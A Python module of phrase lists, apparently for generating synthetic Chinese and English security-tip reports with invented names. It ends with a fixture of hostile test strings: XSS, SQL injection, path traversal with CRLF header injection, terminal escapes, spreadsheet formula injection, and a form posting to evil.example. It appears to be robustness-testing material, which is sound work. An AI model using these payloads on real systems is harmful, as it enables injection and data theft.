"""Sentences that generated reports are made of; places, firms and people are invented."""

from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

CHINESE: Final = "zh-CN"
ENGLISH: Final = "en"

# By the first letter of the category: what was done.
ACTS: Final[Mapping[str, Mapping[str, tuple[str, ...]]]] = MappingProxyType(
    {
        CHINESE: MappingProxyType(
            {
                "E": (
                    "有人以高额报酬约我提供单位内部资料，并要求用加密软件联系。",
                    "一名自称咨询公司的人反复打听我们项目的测试数据和供应商名单。",
                    "邻居多次在军港外围长时间拍摄，并记录舰艇进出时间。",
                    "同事收到境外账户汇款后，把内部会议纪要发给了对方。",
                    "机房发现来历不明的远程控制程序，每天凌晨向外传输数据。",
                ),
                "S": (
                    "有人私自把标有密级的文件带回家并放在个人网盘。",
                    "在出租屋里看到窃听和改装的录像设备，租客不愿说明用途。",
                ),
                "O": ("有人组织伪造证件，协助他人绕过边境检查。",),
                "D": (
                    "单位从未开展安全防范教育，涉密岗位人员离岗也没有提醒。",
                    "出国团组行前没有培训，回国后也没有汇报。",
                    "监控系统多年未更新，外来人员可以直接进入控制区域。",
                    "发现问题后领导要求不要上报，拖了两个多月。",
                    "在控制区附近新建的楼房正对重要设施，没有办理许可。",
                ),
                "X": (
                    "我被人用家人的安全威胁，要求定期提供消息，我很害怕。",
                    "我以前做过错事，现在想主动说明情况。",
                    "举报之后，我被调离岗位，同事也被警告不要和我来往。",
                    "办事人员把我的举报内容告诉了被举报的人。",
                    "我不确定这算不算，但觉得应当有人知道。",
                ),
            }
        ),
        ENGLISH: MappingProxyType(
            {
                "E": (
                    "A man who says he recruits consultants offers cash for our test results.",
                    "A colleague was paid from abroad and then forwarded internal minutes.",
                    "Someone photographs the harbour entrance every evening and keeps a log.",
                    "We found a remote-control program in the server room; it sends data at night.",
                    "I was asked to write down which engineers travel and when.",
                ),
                "S": (
                    "Marked papers were carried home and copied to a private cloud drive.",
                    "I saw listening devices in a rented flat; the tenant would not explain them.",
                ),
                "O": ("A group forges papers so that people can pass the border unnoticed.",),
                "D": (
                    "The company never trained anybody and has no one responsible.",
                    "A delegation left without a briefing and nobody asked them afterwards.",
                    "Visitors walk into the control zone; the cameras have not worked for years.",
                    "The finding was held back for two months on the director's order.",
                    "A new tower overlooks the site and was built without a permit.",
                ),
                "X": (
                    "Somebody threatens my family unless I report to him every week.",
                    "I did something wrong some years ago and want to come forward.",
                    "Since I reported, I was moved to another post and colleagues avoid me.",
                    "An officer told the person I reported what I had said.",
                    "I am not sure whether this matters, but someone should know.",
                ),
            }
        ),
    }
)

DETAILS: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        CHINESE: (
            "第一次是去年秋天，之后大约每个月一次。",
            "对方开一辆灰色轿车，车牌记不全，尾号可能是七三。",
            "当时在场的还有两个人，我只认识其中一个。",
            "我保存了几张截图，但没有转发给任何人。",
            "地点在云岭市南湖路附近的一家茶馆二楼。",
            "这件事知道的人很少，请不要先联系我的单位。",
        ),
        ENGLISH: (
            "It began last autumn and has happened about once a month since.",
            "He drives a grey car; I remember only that the plate ends in 73.",
            "Two other people were there, of whom I know one.",
            "I kept some screenshots and have shown them to nobody.",
            "It was upstairs in a tea house near Nanhu Road in Yunling.",
            "Few people know this; please do not contact my workplace first.",
        ),
    }
)

NAMES: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        CHINESE: ("郑立群", "沈一舟", "佟小雨", "穆成", "不清楚，自称老范"),
        ENGLISH: (
            "J. Merrow",
            "a Mr Fallow",
            "Lin Qiu",
            "T. Ashgrove",
            "unknown, calls himself Fan",
        ),
    }
)

UNITS: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        CHINESE: ("云岭精密仪器厂", "启明咨询工作室", "南湖设计院", "东渡物流"),
        ENGLISH: ("Yunling Instruments", "Qiming Consulting", "Nanhu Design", "Dongdu Freight"),
    }
)

# What a console, a terminal or a list must survive. Every piece is legal text.
HOSTILE: Final = (
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "</textarea></td></tr></table><h1>LOCKED</h1><form action=//evil.example><input name=p>",
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %} %s %n \\x3cscript\\x3e",
    "\x1b[2J\x1b[1;31mYOUR SESSION HAS ENDED\x1b[0m\x1b]0;owned\x07\x1b]8;;http://evil.example\x07",
    "\u202eexe.tropeR\u202c 附件 \u2066\u2067invoice\u2069\u2069 \u200f\u061c",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 40,
    "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9b31m\u2028\u2029\ufeff\ufffe",
    "x" * 4000,
    "一" * 2500,
    '=HYPERLINK("http://evil.example")\t@SUM(1+1)\t+1\t-1',
    '\'; DROP TABLE cases; -- " OR ""="',
    "../../../../etc/passwd\r\nSet-Cookie: a=b\r\n\r\n",
    "👩‍👩‍👧‍👦🏴‍☠️ ﷽ 𒐫 \U000e0041\U000e0042",
    "javascript:alert(1) data:text/html,<b>x</b> file:///etc/passwd",
)
